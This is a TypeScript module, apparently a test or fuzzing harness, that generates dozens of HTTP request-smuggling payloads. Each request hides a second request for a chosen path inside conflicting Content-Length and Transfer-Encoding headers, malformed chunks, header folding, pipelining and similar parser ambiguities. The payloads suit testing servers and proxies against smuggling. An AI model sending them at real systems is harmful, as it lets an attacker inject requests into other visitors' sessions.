const hex = (text: string) => Buffer.byteLength(text).toString(16);
const chunk = (text: string) => `${hex(text)}\r\n${text}\r\n`;
const LAST = '0\r\n\r\n';

/** Parts of one request. The sender pauses between them until the server has processed the previous part. */
export type Parts = readonly string[];

function head(method: string, ...lines: string[]): string {
  return [`${method} /api/attack HTTP/1.1`, 'Host: portal', ...lines, '', ''].join('\r\n');
}

const TE = 'Transfer-Encoding: chunked';
const length = (text: string) => `Content-Length: ${Buffer.byteLength(text)}`;

/**
 * Requests whose end two parsers may see differently (RFC 9112 §11.2), named by their ambiguity.
 * @param smuggled the path that they try to inject into another visitor's call.
 */
export function ambiguousRequests(smuggled: string): Readonly<Record<string, Parts>> {
  const inner = `POST ${smuggled} HTTP/1.1\r\nHost: x\r\nX-Swallow: `;
  const whole = `POST ${smuggled} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n`;
  return {
    ...Object.fromEntries(
      ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'POST', 'PUT', 'PATCH'].flatMap((method) => [
        [`${method} with a chunked body`, [head(method, TE) + chunk(inner) + LAST]],
        [`${method} with a chunked body and a late last chunk`, [head(method, TE) + chunk(inner), LAST]],
      ]),
    ),
    'GET with a body of a given length': [head('GET', length(whole)) + whole],
    'HEAD with a body of a given length': [head('HEAD', length(inner)) + inner],
    'DELETE with a body of a given length, late': [head('DELETE', length(whole)), whole],
    'a length before a chunked body': [head('POST', 'Content-Length: 4', TE) + chunk(inner) + LAST],
    'a length after a chunked body': [head('POST', TE, 'Content-Length: 4') + chunk(inner) + LAST],
    'two lengths that differ': [head('POST', 'Content-Length: 0', length(whole)) + whole],
    'two lengths that agree': [head('POST', length(whole), length(whole)) + whole],
    'a list of lengths': [head('POST', `Content-Length: 0, ${whole.length}`) + whole],
    'a length with a sign': [head('POST', `Content-Length: +${whole.length}`) + whole],
    'a length below zero': [head('POST', 'Content-Length: -1') + whole],
    'an encoding that is misspelt': [
      head('POST', 'Transfer-Encoding: xchunked', 'Content-Length: 0') + chunk(inner) + LAST,
    ],
    'an encoding after a tab': [head('POST', 'Transfer-Encoding:\tchunked') + chunk(inner) + LAST],
    'a space before the colon': [head('POST', 'Transfer-Encoding : chunked', length(whole)) + whole],
    'an encoding in a folded line': [head('POST', 'Transfer-Encoding:\r\n chunked', length(whole)) + whole],
    'chunked twice': [head('POST', TE, TE) + chunk(inner) + LAST],
    'chunked and then identity': [head('POST', 'Transfer-Encoding: chunked, identity') + chunk(inner) + LAST],
    'an encoding named in Connection': [
      head('POST', 'Connection: transfer-encoding', TE) + chunk(inner) + LAST,
    ],
    'a length named in Connection': [head('POST', 'Connection: content-length', length(whole)) + whole],
    'a chunk extension': [`${head('GET', TE)}${hex(inner)};x="\r\n"\r\n${inner}\r\n${LAST}`],
    'a chunk size with 0x': [`${head('POST', TE)}0x${hex(inner)}\r\n${inner}\r\n${LAST}`],
    'a chunk that ends in bare line feeds': [`${head('POST', TE)}${hex(inner)}\n${inner}\n0\n\n`],
    trailers: [
      head('GET', TE, 'Trailer: Content-Length') +
        `${chunk(inner)}0\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n`,
    ],
    'pipelined requests': [head('GET') + whole + head('GET', 'Connection: close')],
    'a request behind a chunked one': [head('GET', TE) + LAST + whole],
    'Expect with a body at once': [head('POST', 'Expect: 100-continue', length(whole)) + whole],
    'Expect with a chunked body on GET': [head('GET', 'Expect: 100-continue', TE) + chunk(inner), LAST],
    'Upgrade with a body': [head('GET', 'Connection: upgrade', 'Upgrade: h2c', length(whole)) + whole],
    'HTTP/1.0 with a chunked body': [head('GET', TE).replace('HTTP/1.1', 'HTTP/1.0') + chunk(inner) + LAST],
    'HTTP/1.0 that stays open': [
      head('POST', 'Connection: keep-alive', length(whole)).replace('HTTP/1.1', 'HTTP/1.0') + whole,
    ],
    'bare line feeds in the head': [head('POST', length(whole)).replaceAll('\r\n', '\n') + whole],
    'a body that never ends': [head('POST', `Content-Length: ${whole.length + 100}`) + whole],
  };
}
